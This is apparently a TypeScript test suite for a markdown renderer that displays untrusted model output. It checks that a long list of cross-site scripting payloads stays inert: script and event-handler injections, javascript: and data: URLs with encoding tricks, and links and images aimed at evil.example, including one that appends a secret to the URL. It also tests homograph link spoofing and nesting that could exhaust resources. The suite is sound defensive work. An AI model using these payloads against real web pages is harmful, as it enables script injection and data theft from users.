/** Hostile text from a model: whatever it says, only elements and attributes of a fixed list are in the page. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { DOCUMENTS } from "./documents";
import { strangers } from "./oracle";
import { feed, pieces, random, whole } from "./page";

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)>",
  "<embed src=//evil.example/x>",
  "<form action=//evil.example><input name=a><button>go</button></form>",
  "<style>*{background:url(//evil.example)}</style>",
  "<link rel=stylesheet href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href=//evil.example>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<b onclick=alert(1)>x</b>",
  "<b\nonclick=alert(1)>x</b>",
  "<details open ontoggle=alert(1)>x</details>",
  "<details/open>x</details>",
  "<q cite=//evil.example>x</q>",
  "<button data-commandlinker-command='notebook:run-cell' data-commandlinker-args='{}'>x</button>",
  "<span data-commandlinker-command=apputils:reset>x</span>",
  "<div id=jupyterapp name=x class=jp-x style=position:fixed role=dialog>x</div>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml <img src=x onerror=alert(1)>?>",
  "<div>\n<script>alert(1)</script>\n\n</div>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](java&NewLine;script:alert(1))",
  "[x](java&Tab;script&#58;alert(1))",
  "[x](&#x1;javascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](< javascript:alert(1)>)",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.example/1)",
  "[x](//evil.example/path)",
  "[x](/lab/api/kernels)",
  "[x](\\\\evil.example\\share)",
  "[x](https:\\\\evil.example)",
  "[x](https:evil.example)",
  "[x](http://)",
  "[x](http://[::1)",
  "[x](mailto:)",
  "[x](ftp://evil.example)",
  "[x](https://good.example/\" onmouseover=\"alert(1))",
  "[x](https://good.example 'title\" onmouseover=alert(1)')",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "[r]\n\n[r]: <java\nscript:alert(1)>",
  "[r]: data:text/html,x 'y'\n\n![r] [r][]",
  "<javascript:alert(1)>",
  "<data:text/html,x>",
  "<https://good.example/\"onmouseover=alert(1)>",
  "<x@y.example\"onclick=1>",
  "![x](https://evil.example/?q=secret)",
  "[^1] [^x\"onclick=alert(1)] [^__proto__]\n\n[^1]: <script>alert(1)</script>\n[^__proto__]: [x](javascript:alert(1))",
  "> [!NOTE]\n> <script>alert(1)</script>\n\n> [!x\" onclick=1]",
  "https://good.example/\"onmouseover=alert(1) www.evil.example/<script> javascript:alert(1) https://a@evil.example",
  "<script>\nalert(1)\n\n</script>\n<!--\n<img src=x>\n\n-->",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![x\"onerror=alert(1)](https://evil.example/\"onerror=alert(1))",
  "![r]\n\n[r]: https://evil.example/i.png \"t\"",
  "[![x](https://evil.example/i.png)](javascript:alert(1))",
  "[a [b](javascript:alert(1))](https://good.example)",
  "```\"><img src=x onerror=alert(1)>\nx\n```",
  "``` javascript\" class=\"jp-x\nx\n```",
  "~~~ <script>\n</code></pre><script>alert(1)</script>\n~~~",
  "`</code><script>alert(1)</script>`",
  "    </code></pre><script>alert(1)</script>",
  "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n| :-- | --: |\n| <img src=x onerror=1> | ![a](https://evil.example) |",
  "# <script>alert(1)</script> {#id .class onclick=x}",
  "1000000000. x\n0. <b>\n99999999999. y",
  "$\\href{javascript:alert(1)}{x}$ $$\\unicode[;background:url(//evil.example)]{x}$$",
  "\\(<img src=x onerror=alert(1)>\\)\n\n$$\n<script>alert(1)</script>\n$$",
  "> <b><i><u>\n\n</b></i> </summary></details></kbd>",
  "<b>**x</b>** *<i>y*</i> [<u>z](https://a.example)</u>",
  "[x](#\" onclick=\"alert(1))",
  "[__proto__]: https://a.example\n\n[__proto__] [constructor] [toString]",
  "\u202e[txt.exe](https://evil.example)\u202c \u2066x\u2069 &#x202e;y &#8238;",
  "*".repeat(300) + "x" + "_".repeat(300) + "[".repeat(300) + "<b>".repeat(300),
  "<sup>".repeat(50) + "x" + "</sup>".repeat(60),
];

/** Fails when anything in the page is not on the lists. */
function assertInert(root: HTMLElement, text: string): void {
  assert.deepEqual(strangers(root), [], JSON.stringify(text));
}

for (const text of PAYLOADS) {
  test(`inert: ${JSON.stringify(text.slice(0, 70))}`, () => {
    for (const wrapped of [text, `> ${text}`, `- a\n- ${text}`, `text ${text} text`, `**${text}**`, `| a |\n| - |\n| ${text} |`]) {
      assertInert(whole(wrapped), wrapped);
    }
    assertInert(feed(text, (root) => assertInert(root, text)), text);
  });
}

test("nothing on the lists is missing a use: ordinary documents pass the same check", () => {
  for (const text of Object.values(DOCUMENTS)) assertInert(whole(text), text);
});

test("parts of payloads put together at random stay inert while they grow", () => {
  for (let seed = 1; seed <= 400; seed++) {
    const next = random(seed * 31);
    const cut = () => {
      const text = PAYLOADS[Math.floor(next() * PAYLOADS.length)] as string;
      const from = Math.floor(next() * Math.min(text.length, 120));
      return text.slice(from, from + 1 + Math.floor(next() * 60));
    };
    const text = Array.from({ length: 6 }, cut).join(["", "\n", " ", "\n\n"][seed % 4]);
    assertInert(feed(pieces(text, next, 7), (root) => assertInert(root, text)), text);
  }
});

test("raw HTML is shown as the text it is", () => {
  assert.equal(whole("a <img src=x> b").textContent, "a <img src=x> b");
  assert.equal(whole("<div>x</div>").textContent, "<div>x</div>");
});

test("a refused link shows its label and its address", () => {
  assert.equal(whole("[click](javascript:alert(1))").textContent, "click (javascript:alert(1))");
});

test("the real host is shown when the label looks like another address", () => {
  const hosts = (text: string) => Array.from(whole(text).querySelectorAll("a .jor-host"), (node) => node.textContent);
  assert.deepEqual(hosts("[https://bank.example](https://evil.example/x)"), ["(evil.example)"]);
  assert.deepEqual(hosts("[bank.example](https://bank.example.evil.example)"), ["(bank.example.evil.example)"]);
  assert.deepEqual(hosts("<https://bank.example@evil.example/>"), ["(evil.example)"]);
  assert.deepEqual(hosts("[x](https://xn--pple-43d.example)"), ["(xn--pple-43d.example)"]);
  assert.deepEqual(hosts("<https://\u0430pple.example>"), ["(xn--pple-43d.example)"]);
  assert.deepEqual(hosts("[`bank.example`](https://evil.example)"), ["(evil.example)"]);
  assert.deepEqual(hosts("[the paper](https://arxiv.example/x) <https://a.example/b> [www.a.example](http://a.example)"), []);
});

test("the language of a fence is only a label, of harmless characters", () => {
  const label = (info: string) => whole(`~~~${info}\nx\n~~~`).querySelector(".jor-code-language")?.textContent;
  assert.deepEqual(["Python", " c++ {x}", '"><b>', "js onclick=x", "", "x".repeat(99)].map(label), ["python", "c++", "", "js", "", "x".repeat(32)]);
});

test("an image is loaded only by its button, and without a referrer", () => {
  const root = whole("![A chart](https://img.example/c.png)");
  assert.equal(root.querySelector("img"), null);
  assert.equal(root.querySelector(".jor-host")?.textContent, "img.example");
  root.querySelector<HTMLButtonElement>(".jor-image-load")?.click();
  const image = root.querySelector("img");
  assert.equal(image?.getAttribute("src"), "https://img.example/c.png");
  assert.equal(image?.alt, "A chart");
  assert.equal(image?.referrerPolicy, "no-referrer");
});

/** Deepest chain of elements in the page. */
function depth(root: Element): number {
  let deepest = 0;
  for (const leaf of root.querySelectorAll("*")) {
    if (leaf.firstElementChild) continue;
    let count = 0;
    for (let at: Element | null = leaf; at && at !== root; at = at.parentElement) count++;
    deepest = Math.max(deepest, count);
  }
  return deepest;
}

const RUNS = ["[", "*a ", "> ", ">", "- ", "1. ", "$", "<b>", "`", "![", "\\(", "_a", "~~a", "[a](", '<a b="', "<", "www.", "http://", "a@", "a.", "&amp", "\\", "[^1]", "[a][b]", "- a\n\n", "-\n", "```\n", "$$\n", "<div>\n", "<!--\n", "| a\n", "[a]: b\n", "[a\n", "a\n", "[^1]: a\n"];

/** These make a thousand elements each, for which jsdom takes its time. */
const MANY = new Set(["~~a", "[^1]", "http://", "\\(", "![", "```\n"]);

for (const run of RUNS) {
  const count = MANY.has(run) ? 1000 : run.includes("\n") ? 2500 : 10_000;
  test(`${count} times ${JSON.stringify(run)} ends in time, in a page of bounded depth`, () => {
    const text = `${run.repeat(count)}x`;
    const root = whole(text);
    assertInert(root, text.slice(0, 20));
    assert.ok(depth(root) < 160, `${depth(root)} elements deep`);
    assertInert(feed(pieces(text, random(1), 4000)), text.slice(0, 20));
  });
}

test("lists and quotes that nest deeper with each line stop at a bounded depth", () => {
  for (const mark of ["> ", "- ", "1. "]) {
    const text = Array.from({ length: 300 }, (_, at) => `${mark === "> " ? mark.repeat(at) : " ".repeat(at * mark.length)}${mark}x\n`).join("");
    const root = whole(text);
    assert.ok(depth(root) < 80);
    assert.equal(root.textContent?.match(/x/g)?.length, 300);
  }
});

test("a table has a bounded number of columns", () => {
  const table = (count: number) => whole(`${"|a".repeat(count)}|\n${"|-".repeat(count)}|\n${"|b".repeat(count)}|\n`);
  assert.equal(table(1000).querySelectorAll("th, td").length, 2000);
  const wide = table(1001);
  assert.equal(wide.querySelectorAll("table").length, 0);
  assert.match(wide.textContent ?? "", /^(\|a){1001}\|\n(\|-){1001}\|\n(\|b){1001}\|$/);
});
